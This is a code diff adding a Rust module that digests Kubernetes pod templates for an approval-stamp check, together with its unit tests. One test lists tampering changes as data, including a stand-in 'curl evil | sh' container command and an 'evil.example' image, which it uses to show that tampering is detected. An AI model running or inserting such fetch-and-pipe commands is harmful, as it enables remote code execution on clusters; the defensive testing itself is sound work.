@@ -1,0 +1,235 @@
+//! The digest of what an approver approved: a workload's pod template, all of it (spec,
+//! labels, annotations, every other metadata field), as SHA-256 over a canonical JSON text.
+//!
+//! Left out, because the stamp must survive them: the stamp annotation itself (it cannot sign
+//! itself), `kubectl.kubernetes.io/restartedAt` (`kubectl rollout restart` writes it, and a
+//! restart runs the approved content again), and the labels the control plane writes into a
+//! template it made, but only with the value it writes: `pod-template-hash` on a Deployment's
+//! ReplicaSet (equal to the suffix of the ReplicaSet's name), and a Job's `job-name` and
+//! `controller-uid` labels (equal to the Job's own name and uid). A label of that name with any
+//! other value is content like any other.
+//!
+//! Why the canonical text is the same for a Deployment and the ReplicaSet its controller
+//! makes (checked on a real control plane by tests/e2e/approvals.rs):
+//! - the API server defaults an object when it decodes it, before any admission webhook sees
+//!   it, so the mutating webhook digests the Deployment's template with its defaults already
+//!   filled in (`imagePullPolicy`, `terminationMessagePath`, `dnsPolicy`, ...); the Deployment
+//!   controller copies that stored template into the ReplicaSet (adding `pod-template-hash`),
+//!   and defaulting the copy again adds nothing, since defaulting is idempotent;
+//! - both texts are the API server's serialization of the same Go struct, so a field is absent
+//!   or present the same way in both; the canonical form still drops `null` members (such as
+//!   `creationTimestamp: null`) so that an absent field and a null one digest the same;
+//! - object keys are sorted by their bytes and nothing else is reformatted, so the order the
+//!   client or the API server wrote keys in does not matter, while every value does.
+
+use super::grant::APPROVAL_ANNOTATION;
+use crate::engine::review::{POD_TEMPLATE_HASH_LABEL, Template};
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+/// The annotation `kubectl rollout restart` writes into a template.
+pub const RESTARTED_AT_ANNOTATION: &str = "kubectl.kubernetes.io/restartedAt";
+
+/// The labels the API server writes into a Job's template (generated selector), old and new
+/// spellings, and what their value is: the Job's name or its uid.
+const JOB_NAME_LABELS: &[&str] = &["job-name", "batch.kubernetes.io/job-name"];
+const JOB_UID_LABELS: &[&str] = &["controller-uid", "batch.kubernetes.io/controller-uid"];
+
+/// The hex SHA-256 of the template's canonical text, `None` when the template was not read
+/// whole (a template built in code without its JSON).
+pub fn of_template(t: &Template, own_name: &str) -> Option<String> {
+    let mut raw = t.raw.clone();
+    let meta = raw.as_object_mut()?.get_mut("metadata");
+    if let Some(Value::Object(meta)) = meta {
+        if let Some(Value::Object(a)) = meta.get_mut("annotations") {
+            a.remove(APPROVAL_ANNOTATION);
+            a.remove(RESTARTED_AT_ANNOTATION);
+        }
+        if let Some(Value::Object(l)) = meta.get_mut("labels") {
+            for (key, value) in control_plane_labels(t, own_name) {
+                if l.get(key).and_then(Value::as_str) == Some(value.as_str()) {
+                    l.remove(key);
+                }
+            }
+        }
+        for key in ["annotations", "labels"] {
+            if meta
+                .get(key)
+                .is_some_and(|v| v.as_object().is_some_and(serde_json::Map::is_empty))
+            {
+                meta.remove(key);
+            }
+        }
+    }
+    let mut text = String::with_capacity(4096);
+    canonical(&raw, &mut text);
+    let digest = Sha256::digest(text.as_bytes());
+    Some(super::grant::to_hex(&digest))
+}
+
+/// The labels the control plane writes into this template, with the value it writes.
+fn control_plane_labels<'a>(t: &'a Template, own_name: &'a str) -> Vec<(&'static str, String)> {
+    match t.kind.as_str() {
+        "ReplicaSet" => {
+            let owner = t
+                .metadata
+                .owner_references
+                .iter()
+                .flatten()
+                .find(|o| o.controller == Some(true) && o.kind == "Deployment");
+            owner
+                .and_then(|o| own_name.strip_prefix(&format!("{}-", o.name)))
+                .map(|hash| vec![(POD_TEMPLATE_HASH_LABEL, hash.to_string())])
+                .unwrap_or_default()
+        }
+        "Job" => {
+            let mut labels: Vec<(&'static str, String)> = JOB_NAME_LABELS
+                .iter()
+                .map(|l| (*l, own_name.to_string()))
+                .collect();
+            if let Some(uid) = &t.metadata.uid {
+                labels.extend(JOB_UID_LABELS.iter().map(|l| (*l, uid.clone())));
+            }
+            labels
+        }
+        _ => Vec::new(),
+    }
+}
+
+/// JSON with object keys sorted by their bytes, `null` members left out, no whitespace;
+/// strings and numbers as serde_json writes them (one spelling each).
+fn canonical(v: &Value, out: &mut String) {
+    match v {
+        Value::Object(map) => {
+            let mut keys: Vec<&String> = map
+                .iter()
+                .filter(|(_, v)| !v.is_null())
+                .map(|(k, _)| k)
+                .collect();
+            keys.sort();
+            out.push('{');
+            for (i, k) in keys.into_iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                out.push_str(&Value::String(k.clone()).to_string());
+                out.push(':');
+                if let Some(v) = map.get(k) {
+                    canonical(v, out);
+                }
+            }
+            out.push('}');
+        }
+        Value::Array(items) => {
+            out.push('[');
+            for (i, item) in items.iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                canonical(item, out);
+            }
+            out.push(']');
+        }
+        other => out.push_str(&other.to_string()),
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used)]
+mod tests {
+    use super::*;
+    use crate::engine::review::Subject;
+    use serde_json::json;
+
+    fn template(kind: &str, object: Value) -> Template {
+        match Subject::from_value(kind, object).unwrap() {
+            Subject::Template(t) => *t,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    fn deployment(template: Value) -> Value {
+        json!({"metadata": {"name": "agent"}, "spec": {"template": template}})
+    }
+
+    fn digest(kind: &str, object: Value) -> String {
+        let t = template(kind, object);
+        let name = t.metadata.name.clone().unwrap_or_default();
+        of_template(&t, &name).unwrap()
+    }
+
+    fn base() -> Value {
+        json!({
+            "metadata": {"labels": {"app": "openclaw"},
+                "annotations": {"openclaw.io/exempt": "read-only-root-filesystem"},
+                "creationTimestamp": null},
+            "spec": {"containers": [{"name": "agent", "image": "ghcr.io/openclaw/openclaw:1",
+                "command": ["openclaw", "gateway"], "imagePullPolicy": "IfNotPresent"}]}
+        })
+    }
+
+    #[test]
+    fn key_order_nulls_the_stamp_and_a_restart_do_not_change_it() {
+        let d = digest("Deployment", deployment(base()));
+        assert_eq!(d.len(), 64);
+        let reordered: Value = serde_json::from_str(
+            r#"{"metadata":{"name":"agent"},"spec":{"template":{"spec":{"containers":[{"imagePullPolicy":"IfNotPresent","command":["openclaw","gateway"],"image":"ghcr.io/openclaw/openclaw:1","name":"agent"}]},"metadata":{"annotations":{"openclaw.io/exempt":"read-only-root-filesystem"},"labels":{"app":"openclaw"}}}}}"#,
+        )
+        .unwrap();
+        assert_eq!(digest("Deployment", reordered), d);
+        let mut t = base();
+        t["metadata"]["annotations"][APPROVAL_ANNOTATION] = "v2;...".into();
+        t["metadata"]["annotations"][RESTARTED_AT_ANNOTATION] = "2026-12-02T10:00:00Z".into();
+        assert_eq!(digest("Deployment", deployment(t)), d);
+    }
+
+    #[test]
+    fn every_other_change_changes_it_fields_no_check_reads_included() {
+        let d = digest("Deployment", deployment(base()));
+        let changes: Vec<fn(&mut Value)> = vec![
+            |t| t["spec"]["containers"][0]["image"] = "evil.example/anything:latest".into(),
+            |t| t["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]),
+            |t| t["spec"]["containers"][0]["args"] = json!(["--yolo"]),
+            |t| t["spec"]["nodeName"] = "node-1".into(),
+            |t| t["metadata"]["labels"]["extra"] = "1".into(),
+            |t| t["metadata"]["annotations"]["openclaw.io/exempt"] = "seccomp-profile".into(),
+            |t| t["metadata"]["annotations"]["other"] = "1".into(),
+            |t| t["metadata"]["labels"][POD_TEMPLATE_HASH_LABEL] = "abc".into(),
+        ];
+        for (i, change) in changes.into_iter().enumerate() {
+            let mut t = base();
+            change(&mut t);
+            assert_ne!(digest("Deployment", deployment(t)), d, "change {i}");
+        }
+    }
+
+    #[test]
+    fn a_replicaset_digests_as_its_deployment_when_its_hash_label_matches_its_name() {
+        let d = digest("Deployment", deployment(base()));
+        let rs = |name: &str, hash: &str| {
+            let mut t = base();
+            t["metadata"]["labels"][POD_TEMPLATE_HASH_LABEL] = hash.into();
+            json!({"metadata": {"name": name, "ownerReferences": [{"apiVersion": "apps/v1",
+                "kind": "Deployment", "name": "agent", "uid": "u", "controller": true}]},
+                "spec": {"template": t}})
+        };
+        assert_eq!(digest("ReplicaSet", rs("agent-7d9f8b6c5", "7d9f8b6c5")), d);
+        assert_ne!(digest("ReplicaSet", rs("agent-7d9f8b6c5", "other")), d);
+    }
+
+    #[test]
+    fn a_jobs_generated_labels_are_left_out_only_with_their_own_values() {
+        let job = |labels: Value| {
+            let mut t = base();
+            for (k, v) in labels.as_object().unwrap() {
+                t["metadata"]["labels"][k] = v.clone();
+            }
+            json!({"metadata": {"name": "run-1", "uid": "1234"}, "spec": {"template": t}})
+        };
+        let d = digest("Job", job(json!({})));
+        let generated = json!({"job-name": "run-1", "batch.kubernetes.io/job-name": "run-1",
+            "controller-uid": "1234", "batch.kubernetes.io/controller-uid": "1234"});
+        assert_eq!(digest("Job", job(generated)), d);
+        assert_ne!(digest("Job", job(json!({"job-name": "other"}))), d);
+    }
+}
